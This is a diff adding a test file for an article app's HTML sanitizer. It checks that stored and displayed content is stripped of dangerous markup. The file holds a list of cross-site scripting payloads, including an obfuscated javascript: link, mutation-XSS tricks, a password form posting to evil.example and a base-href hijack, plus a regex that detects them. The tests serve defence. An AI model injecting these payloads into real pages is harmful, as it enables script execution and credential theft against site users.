@@ -1,0 +1,82 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test';
+import { articleDetails } from '../../../src/db/schema/index.ts';
+import { sanitizeArticleHtml } from '../../../src/domain/articles/sanitize.ts';
+import { href, routes } from '../../../src/routes.ts';
+import { openWorld, type World } from '../../support/world.ts';
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<p onclick="alert(1)">text</p>',
+  '<img src="/assets/a.webp" alt="" onerror="alert(1)">',
+  '<img src="https://tracker.example/pixel.gif" alt="">',
+  '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="">',
+  '<a href="javascript:alert(1)">text</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">text</a>',
+  '<a href="//evil.example/">text</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">text</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="x.swf"></object><embed src="x">',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<p style="position:fixed;inset:0">text</p>',
+  '<style>body{display:none}</style>',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example">',
+  '<p class="fixed inset-0 z-50">text</p>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<p id="main">text</p>',
+];
+
+const dangerous =
+  /<(script|iframe|object|embed|svg|math|style|form|input|meta|base|noscript)\b|\son\w+\s*=|javascript:|data:|evil\.example|tracker\.example|style=|inset-0|id="main"/i;
+
+test('the list of attacks is one: every entry has something that must go', () => {
+  for (const attack of attacks) expect(attack.replace('&colon;', ':')).toMatch(dangerous);
+});
+
+test.each(attacks)('nothing of %s survives', (attack) => {
+  expect(sanitizeArticleHtml(attack)).not.toMatch(dangerous);
+});
+
+test('what an article needs survives unchanged', () => {
+  const text =
+    '<h2>Title</h2><p>One <strong>two</strong> <a href="https://example.com/">three</a></p><ul><li>four</li></ul><p class="ql-align-center">five</p><img src="/assets/a.webp" alt="six" />';
+  expect(sanitizeArticleHtml(text)).toBe(text);
+});
+
+test('a link that opens a new tab cannot reach back', () => {
+  expect(sanitizeArticleHtml('<a href="https://example.com" target="_blank">text</a>')).toContain('noopener');
+});
+
+test('content without anything to see counts as none', () => {
+  for (const empty of ['', '<p></p>', '<p><br></p>', '<p>&nbsp;</p>', '<script>1</script>']) {
+    expect(sanitizeArticleHtml(empty)).toBe('');
+  }
+});
+
+describe('an article', () => {
+  let world: World;
+  beforeAll(async () => {
+    world = await openWorld();
+  });
+  beforeEach(() => world.reset());
+  afterAll(() => world.close());
+
+  test('is cleaned when it is written', async () => {
+    await world.publish({ content: `<p>Kept</p>${attacks.join('')}` });
+    for (const { content } of await world.db.select().from(articleDetails)) {
+      expect(content).toContain('Kept');
+      expect(content).not.toMatch(dangerous);
+    }
+  });
+
+  test('is cleaned again when it is shown, in case somebody wrote past us', async () => {
+    const id = await world.publish();
+    await world.db.update(articleDetails).set({ content: `<p>Kept</p>${attacks.join('')}` });
+    const page = await world.html(href(routes.articles.show, 'en', { id }));
+    const shown = page.querySelectorAll('main p').find((paragraph) => paragraph.text === 'Kept')?.parentNode;
+    expect(shown?.innerHTML).toContain('Kept');
+    expect(shown?.innerHTML).not.toMatch(dangerous);
+  });
+});
